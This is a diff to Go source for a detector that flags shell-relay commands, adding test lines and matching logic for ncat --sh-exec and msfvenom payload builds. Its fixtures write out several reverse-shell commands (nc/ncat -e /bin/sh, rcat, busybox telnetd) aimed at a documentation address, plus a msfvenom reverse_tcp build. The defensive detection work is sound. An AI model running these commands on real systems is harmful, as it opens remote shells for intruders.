@@ -29,17 +29,19 @@ var shellRelayTool = Detector{
 		"/lib64/ld-linux-x86-64.so.2 /usr/bin/ncat 198.51.100.7 1 -e /bin/sh",
 		"/tmp/unknown -e /bin/sh 198.51.100.7 4242",
 		"n'c' -\"e\" /bin/s\\h 198.51.100.7 4242",
+		"ncat -v 198.51.100.7 9 --sh-exec 'exec sh -i'",
 		"rcat connect -s bash 198.51.100.7 55600",
 	), lines(coi.High,
 		"nc -lvp 9000 -e /bin/sh 127.0.0.1",
 		"socat TCP-LISTEN:9000,fork EXEC:/opt/app/handler",
 		"busybox telnetd -l /bin/sh -p 9999",
+		"msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=1 -f elf -o /tmp/e",
 	)...),
 	Quiet: lines("",
 		"nc -z localhost 8080", "nc -vz -w 5 host 1-100", "socat - TCP:host:80", "socat TCP-LISTEN:80,fork TCP:b:80",
 		"echo -e 'GET / HTTP/1.1\\n\\n' | nc host 80", "nc -k -U -l /tmp/n.sock", "nc -c example.test 443",
 		"ncat -l 8080 --keep-open", "while ! nc -z db 5432; do sleep 1; done", "socat UNIX-LISTEN:/tmp/a,fork TCP:127.0.0.1:80",
-		"apt-get install -y netcat-traditional socat", "nc -e", "rg 'nc -e /bin/sh' .",
+		"apt-get install -y netcat-traditional socat", "nc -e", "msfvenom --list payloads", "rg 'nc -e /bin/sh' .",
 	),
 }
 
@@ -50,6 +52,15 @@ func relayTool(s *command.Simple, _ track.View) *Finding {
 		for _, v := range p.Values("e", "exec", "sh-exec", "c") {
 			if f := handed(s, v, p.Has("l", "listen"), len(p.Rest)); f != nil {
 				return f
+			}
+		}
+		for _, l := range []string{"exec", "sh-exec"} { // written in any place, whatever the other options mean
+			for i, a := range s.Argv {
+				if a == "--"+l && i+1 < len(s.Argv) {
+					if f := handed(s, s.Argv[i+1], true, 1); f != nil {
+						return f
+					}
+				}
 			}
 		}
 		if v := p.Values("lua-exec"); len(v) > 0 {
@@ -67,6 +78,10 @@ func relayTool(s *command.Simple, _ track.View) *Finding {
 		if v := program.Parse(program.Spec{Short: "sp"}, s.Argv, false).Values("s"); len(v) > 0 && program.ShellPath(v[0]) {
 			return say(s, coi.Critical, "connection handed to "+v[0]).to(outHost(s))
 		}
+	case "msfvenom", "msfpayload":
+		if hasAny(s.Line(), "shell", "meterpreter", "reverse", "bind_") && !s.Arg("-l", "--list", "--list-options") {
+			return say(s, coi.High, "program built that hands a shell to the network")
+		}
 	case "telnetd", "tcpserver", "in.telnetd", "udpsvd", "tcpsvd", "xinetd":
 		if slices.ContainsFunc(s.Argv[1:], program.ShellPath) {
 			return say(s, coi.High, "shell offered on a port by "+s.Name)
@@ -77,6 +92,10 @@ func relayTool(s *command.Simple, _ track.View) *Finding {
 
 // handed judges the program that nc -e starts.
 func handed(s *command.Simple, v string, listen bool, operands int) *Finding {
+	v = strings.TrimSpace(v)
+	for _, before := range []string{"exec ", "env ", "nohup ", "setsid "} {
+		v = strings.TrimPrefix(v, before)
+	}
 	w := strings.Fields(v)
 	if len(w) == 0 || operands == 0 && !listen {
 		return nil
